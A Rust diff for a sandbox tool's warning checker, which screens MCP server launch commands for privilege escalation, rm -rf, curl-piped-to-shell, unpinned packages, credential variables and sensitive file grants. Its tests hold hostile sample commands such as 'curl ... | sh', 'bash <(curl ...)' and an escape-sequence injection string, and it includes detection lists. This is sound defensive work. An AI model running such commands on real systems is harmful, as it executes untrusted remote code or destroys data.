@@ -16,15 +16,25 @@ use crate::policy::{NetworkMode, Policy};
 const PRIVILEGE: &[&str] = &["sudo", "doas", "su", "pkexec", "run0"];
 const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish"];
 const DOWNLOADERS: &[&str] = &["curl", "wget"];
-const SECRET_WORDS: &[&str] =
-    &["TOKEN", "SECRET", "KEY", "PASSWORD", "PASSWD", "PASSPHRASE", "CREDENTIAL"];
+const SECRET_WORDS: &[&str] = &[
+    "TOKEN",
+    "SECRET",
+    "KEY",
+    "PASSWORD",
+    "PASSWD",
+    "PASSPHRASE",
+    "CREDENTIAL",
+];
 
 /// Every warning for running `inv` under `policy`, in a fixed order.
 /// `home` is the user's home directory; an empty path skips the checks
 /// that depend on it.
 pub fn warnings(policy: &Policy, inv: &Invocation, home: &Path) -> Vec<String> {
-    let words: Vec<String> =
-        inv.argv.iter().map(|a| a.to_string_lossy().into_owned()).collect();
+    let words: Vec<String> = inv
+        .argv
+        .iter()
+        .map(|a| a.to_string_lossy().into_owned())
+        .collect();
     let words: Vec<&str> = words.iter().map(String::as_str).collect();
     let mut out = Vec::new();
     command_warnings(&words, &inv.executable, &mut out);
@@ -50,14 +60,11 @@ pub fn warnings(policy: &Policy, inv: &Invocation, home: &Path) -> Vec<String> {
 
 fn command_warnings(words: &[&str], executable: &Path, out: &mut Vec<String>) {
     let cmd = skip_prefixes(words);
-    let exe_name = executable.file_name().map(|n| n.to_string_lossy().into_owned());
-    let privileged = [words.first(), cmd.first()]
-        .into_iter()
-        .flatten()
-        .map(|w| basename(w))
-        .chain(exe_name.as_deref())
-        .find(|name| PRIVILEGE.contains(name));
-    if let Some(name) = privileged {
+    let exe_name = executable
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned());
+    let exe_name = exe_name.as_deref().filter(|n| PRIVILEGE.contains(n));
+    if let Some(name) = privileged(words).or(exe_name) {
         out.push(privilege_warning(name));
     }
     if has_rm_rf(words) {
@@ -88,12 +95,7 @@ fn privilege_warning(name: &str) -> String {
 /// Warnings about the text of a `sh -c` string.
 fn script_warnings(script: &str, out: &mut Vec<String>) {
     let segments = split_script(script);
-    if let Some(name) = segments
-        .iter()
-        .flat_map(|s| s.words.first())
-        .map(|w| basename(w))
-        .find(|w| PRIVILEGE.contains(w))
-    {
+    if let Some(name) = segments.iter().find_map(|s| privileged(&s.words)) {
         out.push(privilege_warning(name));
     }
     if segments.iter().any(|s| has_rm_rf(&s.words)) {
@@ -108,6 +110,17 @@ fn script_warnings(script: &str, out: &mut Vec<String>) {
     }
 }
 
+/// A `sudo`-like word among the command's prefixes (`env`, assignments,
+/// `sudo` itself) or as the command.
+fn privileged<'a>(words: &[&'a str]) -> Option<&'a str> {
+    let prefix = words.len() - skip_prefixes(words).len();
+    words
+        .iter()
+        .take(prefix + 1)
+        .map(|w| basename(w))
+        .find(|w| PRIVILEGE.contains(w))
+}
+
 /// The last path component of a command word.
 fn basename(word: &str) -> &str {
     word.rsplit('/').next().unwrap_or(word)
@@ -120,7 +133,10 @@ fn skip_prefixes<'a, 'b>(mut words: &'a [&'b str]) -> &'a [&'b str] {
         match words.first().map(|w| basename(w)) {
             Some("env") | Some("sudo") | Some("doas") => {
                 words = &words[1..];
-                while words.first().is_some_and(|w| w.starts_with('-') || is_assignment(w)) {
+                while words
+                    .first()
+                    .is_some_and(|w| w.starts_with('-') || is_assignment(w))
+                {
                     words = &words[1..];
                 }
             }
@@ -143,7 +159,10 @@ fn has_rm_rf(words: &[&str]) -> bool {
             return false;
         }
         let (mut recursive, mut force) = (false, false);
-        for opt in words[i + 1..].iter().take_while(|o| o.starts_with('-') && **o != "--") {
+        for opt in words[i + 1..]
+            .iter()
+            .take_while(|o| o.starts_with('-') && **o != "--")
+        {
             match *opt {
                 "--recursive" => recursive = true,
                 "--force" => force = true,
@@ -193,6 +212,13 @@ struct Segment<'a> {
     piped: bool,
 }
 
+impl Segment<'_> {
+    /// The command's name, after `env`/`sudo` prefixes.
+    fn command(&self) -> Option<&str> {
+        skip_prefixes(&self.words).first().map(|w| basename(w))
+    }
+}
+
 /// A deliberately rough split of a shell string into simple commands, on
 /// `; & | ( ) ` < >` and newlines, quotes dropped from the words.
 fn split_script(script: &str) -> Vec<Segment<'_>> {
@@ -200,31 +226,34 @@ fn split_script(script: &str) -> Vec<Segment<'_>> {
     let mut piped = false;
     let mut rest = script;
     while !rest.is_empty() {
-        let end = rest.find([';', '&', '|', '(', ')', '`', '<', '>', '\n']).unwrap_or(rest.len());
+        let end = rest
+            .find([';', '&', '|', '(', ')', '`', '<', '>', '\n'])
+            .unwrap_or(rest.len());
         let words = rest[..end]
             .split_whitespace()
             .map(|w| w.trim_matches(['"', '\'', '$', '{', '}']))
             .filter(|w| !w.is_empty())
             .collect();
-        segments.push(Segment { words: skip_prefixes_owned(words), piped });
+        segments.push(Segment { words, piped });
         let sep = &rest[end..];
         piped = sep.starts_with('|') && !sep.starts_with("||");
-        let skip = if sep.starts_with("||") || sep.starts_with("&&") { 2 } else { 1 };
+        let skip = if sep.starts_with("||") || sep.starts_with("&&") {
+            2
+        } else {
+            1
+        };
         rest = sep.get(skip..).unwrap_or("");
     }
     segments
 }
 
-fn skip_prefixes_owned(words: Vec<&str>) -> Vec<&str> {
-    skip_prefixes(&words).to_vec()
-}
-
 /// `curl … | sh`, or a shell fed by `$(curl …)` / `<(curl …)`.
 fn downloads_and_runs(segments: &[Segment<'_>], script: &str) -> bool {
-    let is_shell = |s: &Segment<'_>| s.words.first().is_some_and(|w| SHELLS.contains(&basename(w)));
-    let is_download =
-        |s: &Segment<'_>| s.words.first().is_some_and(|w| DOWNLOADERS.contains(&basename(w)));
-    let piped = segments.windows(2).any(|p| p[1].piped && is_shell(&p[1]) && is_download(&p[0]));
+    let is_shell = |s: &Segment<'_>| s.command().is_some_and(|c| SHELLS.contains(&c));
+    let is_download = |s: &Segment<'_>| s.command().is_some_and(|c| DOWNLOADERS.contains(&c));
+    let piped = segments
+        .windows(2)
+        .any(|p| p[1].piped && is_shell(&p[1]) && is_download(&p[0]));
     let substituted = (script.contains("$(") || script.contains("<("))
         && segments.iter().any(is_download)
         && segments.iter().any(is_shell);
@@ -247,14 +276,19 @@ fn unpinned_package(cmd: &[&str]) -> Option<String> {
             ("pnpm dlx".to_owned(), npm_package(after(dlx + 1))?, false)
         }
         ("uvx", _) => (first.to_owned(), py_package(after(1), "--from")?, true),
-        ("uv", "tool") if cmd.get(2) == Some(&"run") => {
-            ("uv tool run".to_owned(), py_package(after(3), "--from")?, true)
-        }
+        ("uv", "tool") if cmd.get(2) == Some(&"run") => (
+            "uv tool run".to_owned(),
+            py_package(after(3), "--from")?,
+            true,
+        ),
         ("pipx", "run") => ("pipx run".to_owned(), py_package(after(2), "--spec")?, true),
         _ => return None,
     };
-    let (pinned, example) =
-        if python { (py_is_pinned(spec), "==") } else { (npm_is_pinned(spec), "@") };
+    let (pinned, example) = if python {
+        (py_is_pinned(spec), "==")
+    } else {
+        (npm_is_pinned(spec), "@")
+    };
     if pinned {
         return None;
     }
@@ -290,11 +324,10 @@ fn npm_package<'a>(args: &[&'a str]) -> Option<&'a str> {
 /// The package a Python-style runner installs: the `spec_opt` value if
 /// given, else the first operand.
 fn py_package<'a>(args: &[&'a str], spec_opt: &str) -> Option<&'a str> {
-    const TAKES_VALUE: &[&str] = &[
-        "--with", "-w", "--with-editable", "--with-requirements", "--python", "-p", "--index",
-        "--default-index", "--index-url", "-i", "--extra-index-url", "--find-links", "-f",
-        "--constraints", "--overrides", "--pip-args", "--cache-dir", "--directory",
-    ];
+    // Options of uvx, `uv tool run` and `pipx run` that take a value.
+    const TAKES_VALUE: &str = "--with -w --with-editable --with-requirements --python -p \
+        --index --default-index --index-url -i --extra-index-url --find-links -f --constraints \
+        --overrides --pip-args --cache-dir --directory";
     let mut it = args.iter();
     while let Some(arg) = it.next() {
         if *arg == spec_opt {
@@ -303,7 +336,7 @@ fn py_package<'a>(args: &[&'a str], spec_opt: &str) -> Option<&'a str> {
         if let Some(v) = arg.strip_prefix(spec_opt).and_then(|r| r.strip_prefix('=')) {
             return Some(v);
         }
-        if TAKES_VALUE.contains(arg) {
+        if TAKES_VALUE.split_whitespace().any(|o| o == *arg) {
             it.next();
         } else if *arg == "--" {
             return it.next().copied();
@@ -338,13 +371,17 @@ fn py_is_pinned(spec: &str) -> bool {
     if is_path_or_url(spec) {
         return true;
     }
-    let version = spec.split_once("==").or_else(|| spec.split_once('@')).map(|(_, v)| v);
+    let version = spec
+        .split_once("==")
+        .or_else(|| spec.split_once('@'))
+        .map(|(_, v)| v);
     version.is_some_and(|v| is_exact_version(v.trim_start_matches('=')))
 }
 
 fn is_exact_version(v: &str) -> bool {
     v.starts_with(|c: char| c.is_ascii_digit())
-        && v.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+'))
+        && v.chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+'))
         && !v.split('.').any(|part| matches!(part, "x" | "X"))
 }
 
@@ -364,10 +401,18 @@ fn sensitive_places(home: &Path) -> Vec<Sensitive> {
         ("/root", "root's home directory"),
     ]
     .into_iter()
-    .map(|(p, what)| Sensitive { path: p.into(), what, below_too: false })
+    .map(|(p, what)| Sensitive {
+        path: p.into(),
+        what,
+        below_too: false,
+    })
     .collect();
     if home.is_absolute() && home != Path::new("/") {
-        list.push(Sensitive { path: home.to_owned(), what: "your home directory", below_too: false });
+        list.push(Sensitive {
+            path: home.to_owned(),
+            what: "your home directory",
+            below_too: false,
+        });
         let in_home: [(&str, &str, bool); 12] = [
             (".ssh", "SSH keys", true),
             (".aws", "AWS credentials", true),
@@ -376,14 +421,22 @@ fn sensitive_places(home: &Path) -> Vec<Sensitive> {
             (".kube", "Kubernetes credentials", true),
             (".docker", "Docker registry credentials", true),
             (".netrc", "saved login passwords", false),
-            (".config/Claude/claude_desktop_config.json", "an MCP host's configuration", false),
+            (
+                ".config/Claude/claude_desktop_config.json",
+                "an MCP host's configuration",
+                false,
+            ),
             (".claude.json", "an MCP host's configuration", false),
             (".cursor/mcp.json", "an MCP host's configuration", false),
             (".vscode/mcp.json", "an MCP host's configuration", false),
             (".mcp.json", "an MCP host's configuration", false),
         ];
         for (rel, what, below_too) in in_home {
-            list.push(Sensitive { path: home.join(rel), what, below_too });
+            list.push(Sensitive {
+                path: home.join(rel),
+                what,
+                below_too,
+            });
         }
     }
     list
@@ -422,7 +475,13 @@ fn grant_warnings(policy: &Policy, home: &Path, out: &mut Vec<String>) {
         if hits.is_empty() && contains.is_empty() {
             continue;
         }
-        out.push(grant_sentence(g.access.write, &g.path, &hits, &contains, home));
+        out.push(grant_sentence(
+            g.access.write,
+            &g.path,
+            &hits,
+            &contains,
+            home,
+        ));
     }
 }
 
@@ -472,20 +531,307 @@ fn env_warnings(policy: &Policy, out: &mut Vec<String>) {
         let upper = name.to_ascii_uppercase();
         SECRET_WORDS.iter().any(|w| upper.contains(w))
     };
-    let passed: Vec<String> =
-        policy.env.pass.iter().filter(looks_secret).map(|n| escape_text(n)).collect();
+    let passed: Vec<String> = policy
+        .env
+        .pass
+        .iter()
+        .filter(looks_secret)
+        .map(|n| escape_text(n))
+        .collect();
     if !passed.is_empty() {
         out.push(format!(
             "passes a credential to the server: {} (copied from your environment)",
             passed.join(", ")
         ));
     }
-    let set: Vec<String> =
-        policy.env.set.keys().filter(looks_secret).map(|n| escape_text(n)).collect();
+    let set: Vec<String> = policy
+        .env
+        .set
+        .keys()
+        .filter(looks_secret)
+        .map(|n| escape_text(n))
+        .collect();
     if !set.is_empty() {
         out.push(format!(
             "passes a credential to the server: {} (set by the profile)",
             set.join(", ")
         ));
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, clippy::expect_used)]
+mod tests {
+    use super::*;
+    use crate::consent::test_support::{grant, invocation, policy};
+    use crate::policy::{Access, GrantSource};
+
+    fn for_argv(argv: &[&str]) -> Vec<String> {
+        warnings(&policy(), &invocation(argv), Path::new(""))
+    }
+
+    fn fires(argv: &[&str], needle: &str) -> bool {
+        for_argv(argv).iter().any(|w| w.contains(needle))
+    }
+
+    #[test]
+    fn benign_commands_are_quiet() {
+        for argv in [
+            &[
+                "npx",
+                "-y",
+                "@modelcontextprotocol/server-filesystem@2025.1.14",
+                "/srv/notes",
+            ][..],
+            &["node", "/srv/server.js", "--rm", "-rf-ish"],
+            &[
+                "uvx",
+                "mcp-server-git==2025.1.14",
+                "--repository",
+                "/srv/repo",
+            ],
+            &[
+                "uvx",
+                "--from",
+                "mcp-server-fetch@0.6.2",
+                "mcp-server-fetch",
+            ],
+            &["pipx", "run", "--spec", "pkg==1.0", "pkg"],
+            &["bunx", "pkg@1.2.3"],
+            &["python3", "-m", "server", "--shell", "bash"],
+            &["bash", "/srv/start.sh"],
+            &["npx", "--no", "local-bin"],
+            &["npx", "./local/package"],
+        ] {
+            assert_eq!(for_argv(argv), Vec::<String>::new(), "{argv:?}");
+        }
+    }
+
+    #[test]
+    fn privilege_escalation() {
+        assert!(fires(
+            &["sudo", "node", "x.js"],
+            "runs sudo, which asks for root"
+        ));
+        assert!(fires(&["/usr/bin/doas", "x"], "runs doas"));
+        assert!(fires(&["env", "A=1", "pkexec", "x"], "runs pkexec"));
+        assert!(fires(&["sh", "-c", "cd /srv && sudo ./serve"], "runs sudo"));
+        assert!(fires(&["sh", "-c", "A=1 env doas ./serve"], "runs doas"));
+        assert!(!fires(&["sh", "-c", "echo sudo"], "root"));
+        let mut inv = invocation(&["server"]);
+        inv.executable = "/usr/bin/su".into();
+        assert!(!warnings(&policy(), &inv, Path::new("")).is_empty());
+        assert!(!fires(&["node", "sudo.js"], "root"));
+    }
+
+    #[test]
+    fn rm_rf() {
+        for argv in [
+            &["rm", "-rf", "/srv/cache"][..],
+            &["rm", "-fr", "x"],
+            &["rm", "-r", "-f", "x"],
+            &["/bin/rm", "-Rf", "x"],
+            &["rm", "--recursive", "--force", "x"],
+            &["sh", "-c", "rm -rf /tmp/x; exec server"],
+            &["bash", "-lc", "cd /srv && rm -r -f build && node x"],
+        ] {
+            assert!(fires(argv, "rm -rf"), "{argv:?}");
+        }
+        assert!(!fires(&["rm", "-r", "x"], "rm -rf"));
+        assert!(!fires(&["server", "-rf"], "rm -rf"));
+        assert!(!fires(&["sh", "-c", "echo rm; ls -rf"], "rm -rf"));
+    }
+
+    #[test]
+    fn shell_command_strings() {
+        let msg = "runs a shell command string; the server is whatever that string does";
+        assert!(fires(&["sh", "-c", "exec node x.js"], msg));
+        assert!(fires(&["/bin/bash", "-lc", "node x.js"], msg));
+        assert!(fires(&["zsh", "-e", "-c", "node x.js"], msg));
+        assert!(fires(&["env", "bash", "-c", "node x.js"], msg));
+        assert!(!fires(&["bash", "script.sh", "-c"], msg));
+        assert!(!fires(&["node", "-c", "x"], msg));
+    }
+
+    #[test]
+    fn download_piped_into_a_shell() {
+        let msg = "pipes a download";
+        assert!(fires(
+            &["sh", "-c", "curl -fsSL https://x.example/i.sh | sh"],
+            msg
+        ));
+        assert!(fires(
+            &["bash", "-c", "wget -qO- https://x.example/i | sudo bash -s"],
+            msg
+        ));
+        assert!(fires(
+            &["bash", "-c", "bash <(curl -s https://x.example/i)"],
+            msg
+        ));
+        assert!(fires(
+            &["sh", "-c", "sh -c \"$(curl -fsSL https://x.example)\""],
+            msg
+        ));
+        assert!(!fires(
+            &["sh", "-c", "curl -s https://x.example > /tmp/f || true"],
+            msg
+        ));
+        assert!(!fires(&["sh", "-c", "curl https://x.example | jq ."], msg));
+    }
+
+    #[test]
+    fn unpinned_package_runners() {
+        let msg = "downloads and runs the latest version";
+        for argv in [
+            &[
+                "npx",
+                "-y",
+                "@modelcontextprotocol/server-filesystem",
+                "/srv",
+            ][..],
+            &["npx", "--yes", "mcp-server"],
+            &["npx", "mcp-server@latest"],
+            &["npx", "-y", "mcp-server@^1.2.0"],
+            &["npx", "-y", "@scope/pkg@next"],
+            &["npx", "-y", "-p", "@scope/pkg", "cmd"],
+            &["npm", "exec", "--", "pkg"],
+            &["bunx", "pkg"],
+            &["pnpm", "dlx", "pkg"],
+            &["uvx", "mcp-server-fetch"],
+            &["uvx", "mcp-server-fetch>=1.0"],
+            &["uvx", "--from", "pkg@latest", "cmd"],
+            &["uv", "tool", "run", "pkg"],
+            &["pipx", "run", "pkg"],
+            &["pipx", "run", "--spec", "pkg", "cmd"],
+        ] {
+            assert!(fires(argv, msg), "{argv:?}");
+        }
+        for argv in [
+            &["npx", "-y", "@scope/pkg@1.2.3"][..],
+            &["npx", "-y", "pkg@0.6.2", "--flag"],
+            &["npx", "-y", "-p", "@scope/pkg@1.0.0", "cmd"],
+            &["pnpm", "dlx", "pkg@1.0.0"],
+            &["uvx", "pkg==1.2"],
+            &["uvx", "pkg[extra]==1.2", "--x"],
+            &["uvx", "--python", "3.12", "pkg@1.2"],
+            &["pipx", "run", "pkg==1.0"],
+        ] {
+            assert!(!fires(argv, msg), "{argv:?}");
+        }
+        assert!(
+            for_argv(&["npx", "-y", "srv"])[0]
+                .starts_with("npx downloads and runs the latest version of srv")
+        );
+    }
+
+    #[test]
+    fn network_host_and_credentials() {
+        let mut p = policy();
+        let inv = invocation(&["server"]);
+        assert!(warnings(&p, &inv, Path::new("")).is_empty());
+        p.network.mode = NetworkMode::Host;
+        p.env.pass = vec![
+            "GITHUB_TOKEN".into(),
+            "HOME".into(),
+            "OPENAI_API_KEY".into(),
+        ];
+        p.env.set.insert("DB_PASSWORD".into(), "x".into());
+        let w = warnings(&p, &inv, Path::new(""));
+        assert!(
+            w.iter()
+                .any(|w| w.contains("every service on this machine's loopback and your network"))
+        );
+        assert!(w.iter().any(|w| w == "passes a credential to the server: GITHUB_TOKEN, OPENAI_API_KEY (copied from your environment)"), "{w:?}");
+        assert!(
+            w.iter()
+                .any(|w| w.contains("credential to the server: DB_PASSWORD"))
+        );
+    }
+
+    fn grant_warnings_for(grants: &[(&Path, Access)], home: &Path) -> Vec<String> {
+        let mut p = policy();
+        p.fs = grants
+            .iter()
+            .map(|(path, access)| grant(path.to_str().unwrap(), *access, GrantSource::Profile))
+            .collect();
+        warnings(&p, &invocation(&["server"]), home)
+    }
+
+    #[test]
+    fn sensitive_grants() {
+        let home_dir = tempfile::tempdir().unwrap();
+        let home = home_dir.path();
+        std::fs::create_dir_all(home.join(".ssh")).unwrap();
+        std::fs::create_dir_all(home.join("code/app")).unwrap();
+        std::fs::write(home.join("code/app/.env"), "K=v").unwrap();
+        std::fs::create_dir_all(home.join("code/other/.vscode")).unwrap();
+        std::fs::write(home.join("code/other/.vscode/mcp.json"), "{}").unwrap();
+        std::fs::create_dir_all(home.join("notes")).unwrap();
+        let one = |path: &Path, access| grant_warnings_for(&[(path, access)], home);
+
+        let w = one(home, Access::READ_WRITE);
+        assert_eq!(w.len(), 1, "{w:?}");
+        assert!(w[0].starts_with("grants WRITE access to "), "{w:?}");
+        assert!(
+            w[0].contains("(your home directory), which contains ~/.ssh:"),
+            "{w:?}"
+        );
+        assert!(w[0].ends_with("the server can read, change and delete it"));
+
+        let w = one(&home.join(".ssh"), Access::READ);
+        assert_eq!(
+            w,
+            vec!["grants read access to ~/.ssh (SSH keys): the server can read it"]
+        );
+        assert!(one(&home.join(".ssh/id_ed25519"), Access::READ)[0].contains("SSH keys"));
+        assert!(one(&home.join(".aws/credentials"), Access::READ)[0].contains("AWS"));
+        assert!(one(&home.join(".config/gh"), Access::READ)[0].contains("GitHub"));
+        assert!(one(&home.join(".netrc"), Access::READ)[0].contains("passwords"));
+        assert!(
+            one(
+                &home.join(".config/Claude/claude_desktop_config.json"),
+                Access::READ
+            )[0]
+            .contains("MCP host")
+        );
+        assert!(
+            one(&home.join("code/app"), Access::READ)[0].contains("which contains ~/code/app/.env")
+        );
+        assert!(one(&home.join("code/app/.env"), Access::READ)[0].contains("a .env file"));
+        assert!(
+            one(&home.join("code/other"), Access::READ)[0]
+                .contains("~/code/other/.vscode/mcp.json")
+        );
+        assert!(one(Path::new("/srv/x/.mcp.json"), Access::READ)[0].contains("MCP host"));
+        for root in ["/", "/etc", "/home", "/root"] {
+            assert_eq!(one(Path::new(root), Access::READ).len(), 1, "{root}");
+        }
+        assert!(one(Path::new("/"), Access::READ)[0].contains("the whole filesystem"));
+        assert!(one(Path::new("/home"), Access::READ)[0].contains("every user's home"));
+
+        assert!(one(&home.join("notes"), Access::READ_WRITE).is_empty());
+        assert!(one(Path::new("/usr"), Access::READ_EXEC).is_empty());
+        assert!(one(Path::new("/etc/ssl/certs"), Access::READ).is_empty());
+    }
+
+    #[test]
+    fn unprotect_is_named() {
+        let mut p = policy();
+        p.unprotect = vec!["/home/u/.ssh".into()];
+        let w = warnings(&p, &invocation(&["server"]), Path::new("/home/u"));
+        assert_eq!(
+            w,
+            vec!["the profile lifts cordon's mandatory protection of ~/.ssh"]
+        );
+    }
+
+    #[test]
+    fn warnings_escape_untrusted_text() {
+        let w = for_argv(&["npx", "-y", "evil\x1b]0;x\x07\u{202e}"]);
+        assert!(
+            !w[0].contains('\x1b') && !w[0].contains('\u{202e}'),
+            "{w:?}"
+        );
+        assert!(w[0].contains(r"evil\x1b]0;x\x07\u{202e}"));
     }
 }
